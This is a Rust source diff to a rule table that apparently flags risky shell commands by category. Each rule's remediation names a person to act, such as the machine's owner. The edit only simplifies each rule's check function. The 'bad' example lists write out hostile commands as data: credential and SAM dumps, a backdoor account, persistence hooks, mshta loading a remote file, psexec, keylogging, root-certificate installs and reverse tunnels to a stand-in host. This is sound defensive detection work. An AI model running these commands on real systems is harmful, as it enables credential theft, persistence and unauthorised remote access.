@@ -21,7 +21,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Let a person run it, with the leave of the machine's owner.",
         good: &["echo mimikatz", "man nmap", "grep linpeas notes.txt"],
         bad: &["./linpeas.sh", "sh /opt/LinEnum.sh", "git clone https://github.com/gentilkiwi/mimikatz"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "autostart_setting",
@@ -43,7 +43,7 @@ pub(super) const RULES: &[Rule] = &[
             "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d 'C:\\x.exe' /f",
             "defaults write com.apple.loginwindow LoginHook /tmp/x.sh",
         ],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "credential_store_access",
@@ -58,7 +58,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Let the program that needs the secret ask for it itself.",
         good: &["security list-keychains", "kubectl get pods", "reg query HKLM\\\\Software"],
         bad: &["security dump-keychain -d login.keychain", "reg save 'HKLM\\sam' sam.hiv"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "account_change",
@@ -73,7 +73,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Let the person who answers for the accounts do it.",
         good: &["id root", "net user", "aws iam list-users"],
         bad: &["net user evil P4ss /add", "aws iam create-access-key --user-name admin"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "proxy_execution",
@@ -88,7 +88,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Run the program itself, after looking at it.",
         good: &["msbuild app.sln", "certutil -hashfile x.zip SHA256"],
         bad: &["regsvr32 /s x.dll", "mshta https://e.example/a.hta"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "remote_execution",
@@ -103,7 +103,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Make sure that the machine is meant, and that its owner knows.",
         good: &["ssh host uptime", "wmic os get caption"],
         bad: &["psexec '\\\\host' cmd.exe", "wmic /node:host process call create calc.exe"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "capture",
@@ -118,7 +118,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Ask the person who sits at the machine.",
         good: &["xinput list", "echo screenshot"],
         bad: &["logkeys --start", "xinput test 8"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "trust_change",
@@ -134,7 +134,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Check where it is from, and trust that one thing only.",
         good: &["security find-identity -v", "xattr -l x.app"],
         bad: &["security add-trusted-cert -d -r trustRoot x.crt", "certutil -addstore Root x.cer"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "hidden_thing",
@@ -148,7 +148,7 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Leave it where its owner sees it.",
         good: &["attrib x.txt", "dscl . -list /Users"],
         bad: &["attrib +h x.txt", "chflags hidden x"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
     Rule {
         id: "tunnel_program",
@@ -163,6 +163,6 @@ pub(super) const RULES: &[Rule] = &[
         remediation: "Ask the network's owner; close it when it is no longer needed.",
         good: &["ssh -L 8080:localhost:80 host", "curl https://ngrok.com"],
         bad: &["chisel client e.example:8000 R:socks", "cloudflared tunnel --url http://localhost:22"],
-        check: |f, r, o| listed(f, r, o),
+        check: listed,
     },
 ];
